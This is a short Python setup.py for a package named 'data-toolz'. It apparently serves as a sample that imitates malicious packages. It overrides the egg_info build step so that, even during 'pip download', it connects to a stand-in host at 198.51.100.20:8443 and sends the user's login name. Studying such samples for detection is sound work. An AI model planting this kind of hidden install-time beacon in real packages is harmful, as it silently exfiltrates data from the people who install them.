# Imitates packages that hook egg_info, which runs even for `pip download`/metadata builds.
import os
import socket

from setuptools import setup
from setuptools.command.egg_info import egg_info


class Beacon(egg_info):
    def run(self):
        socket.create_connection(("198.51.100.20", 8443)).sendall(os.getlogin().encode())
        egg_info.run(self)


setup(name="data-toolz", version="2.0", cmdclass={"egg_info": Beacon})
